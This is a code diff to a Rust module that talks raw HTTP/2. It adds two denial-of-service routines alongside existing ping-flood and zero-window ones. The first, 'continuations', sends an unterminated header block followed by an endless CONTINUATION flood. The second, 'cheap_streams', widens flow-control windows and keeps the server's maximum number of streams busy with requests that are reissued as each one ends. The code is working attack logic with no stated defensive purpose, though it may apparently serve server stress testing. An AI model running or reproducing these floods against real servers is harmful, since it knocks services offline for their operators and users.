@@ -12,13 +12,23 @@ const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
 const PING: u8 = 6;
+const WINDOW_UPDATE: u8 = 8;
+const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 const ACK: u8 = 1;
+/// `:method` by its index in the static table.
+const GET: u8 = 0x82;
+const POST: u8 = 0x83;
+/// SETTINGS_INITIAL_WINDOW_SIZE = 2^31 - 1, and what the window of the connection lacks to that.
+const WINDOW_MOST: [u8; 6] = [0, 4, 0x7f, 0xff, 0xff, 0xff];
+const WINDOW_REST: u32 = (1 << 31) - 1 - 65_535;
 /// SETTINGS_INITIAL_WINDOW_SIZE = 0.
 const WINDOW_0: [u8; 6] = [0, 4, 0, 0, 0, 0];
 /// Streams of one connection that are opened at a time.
 const STREAMS: u32 = 200;
+/// Streams that every server allows.
+const ALLOWED: u32 = 100;
 
 type Halves = (ReadHalf<Box<dyn Stream>>, WriteHalf<Box<dyn Stream>>);
 
@@ -49,10 +59,7 @@ fn literal(block: &mut Vec<u8>, name: u8, value: &str) {
 
 /// The header block of a request.
 fn request(target: &Target, post: bool) -> Vec<u8> {
-    // :method, :scheme https
-    let mut block = vec![if post { 0x83 } else { 0x82 }, 0x87];
-    literal(&mut block, 1, "localhost");
-    literal(&mut block, 4, &target.path);
+    let mut block = start_of(if post { POST } else { GET }, &target.path);
     if post {
         let kind = match target.name.as_str() {
             "grpc" => "application/grpc",
@@ -66,6 +73,15 @@ fn request(target: &Target, post: bool) -> Vec<u8> {
     block
 }
 
+/// The pseudo-headers of a request.
+fn start_of(method: u8, path: &str) -> Vec<u8> {
+    // :scheme https
+    let mut block = vec![method, 0x87];
+    literal(&mut block, 1, "localhost");
+    literal(&mut block, 4, path);
+    block
+}
+
 async fn begin(target: &Target, from: Ipv4Addr, settings: &[u8]) -> io::Result<Halves> {
     let mut stream = target.stream(from, true).await?;
     stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
@@ -75,18 +91,24 @@ async fn begin(target: &Target, from: Ipv4Addr, settings: &[u8]) -> io::Result<H
     Ok(split(stream))
 }
 
+/// The kind, the flags, and the payload of the next frame.
+async fn read_frame(reader: &mut ReadHalf<Box<dyn Stream>>) -> io::Result<(u8, u8, Vec<u8>)> {
+    let mut head = [0; 9];
+    reader.read_exact(&mut head).await?;
+    let [a, b, c, kind, flags, ..] = head;
+    let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
+    reader.read_exact(&mut payload).await?;
+    Ok((kind, flags, payload))
+}
+
 /// Answers pings, so that the connection looks alive, until the server closes it.
 async fn stay_alive(
     mut reader: ReadHalf<Box<dyn Stream>>,
     mut writer: WriteHalf<Box<dyn Stream>>,
 ) -> io::Result<()> {
     loop {
-        let mut head = [0; 9];
-        reader.read_exact(&mut head).await?;
-        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
-        let mut payload = vec![0; length as usize];
-        reader.read_exact(&mut payload).await?;
-        if head[3] == PING && head[4] & ACK == 0 {
+        let (kind, flags, payload) = read_frame(&mut reader).await?;
+        if kind == PING && flags & ACK == 0 {
             writer.write_all(&frame(PING, ACK, 0, &payload)).await?;
             writer.flush().await?;
         }
@@ -155,4 +177,60 @@ pub(super) async fn pings(target: &Target, from: Ipv4Addr, opened: impl FnOnce()
     loop {
         writer.write_all(&both).await?;
     }
+}
+
+/// A head that does not end.
+pub(super) async fn continuations(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
+    let (mut reader, mut writer) = begin(target, from, &[]).await?;
+    writer
+        .write_all(&frame(HEADERS, 0, 1, &start_of(GET, &target.open_path)))
+        .await?;
+    opened();
+    let reading = async { tokio::io::copy(&mut reader, &mut tokio::io::sink()).await };
+    let writing = async {
+        loop {
+            let mut block = Vec::new();
+            // A literal that is not indexed, with a name of its own.
+            block.extend([0, 1, b'x', 1, b'y']);
+            writer.write_all(&frame(CONTINUATION, 0, 1, &block)).await?;
+        }
+    };
+    tokio::select! {
+        ended = reading => ended.map(drop),
+        ended = writing => ended,
+    }
+}
+
+/// Requests for an open document on as many streams as are allowed; each that ends is followed by another.
+pub(super) async fn cheap_streams(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
+    let (mut reader, mut writer) = begin(target, from, &WINDOW_MOST).await?;
+    writer
+        .write_all(&frame(WINDOW_UPDATE, 0, 0, &WINDOW_REST.to_be_bytes()))
+        .await?;
+    let block = start_of(GET, &target.open_path);
+    let mut next = 1;
+    for _ in 0..ALLOWED {
+        open_next(&mut writer, &block, &mut next).await?;
+    }
+    opened();
+    loop {
+        let (kind, flags, payload) = read_frame(&mut reader).await?;
+        if kind == PING && flags & ACK == 0 {
+            writer.write_all(&frame(PING, ACK, 0, &payload)).await?;
+        }
+        if matches!(kind, DATA | HEADERS) && flags & END_STREAM != 0 || kind == RST_STREAM {
+            open_next(&mut writer, &block, &mut next).await?;
+        }
+    }
+}
+
+async fn open_next(
+    writer: &mut WriteHalf<Box<dyn Stream>>,
+    block: &[u8],
+    stream: &mut u32,
+) -> io::Result<()> {
+    let flags = END_HEADERS | END_STREAM;
+    writer.write_all(&frame(HEADERS, flags, *stream, block)).await?;
+    *stream += 2;
+    writer.flush().await
 }
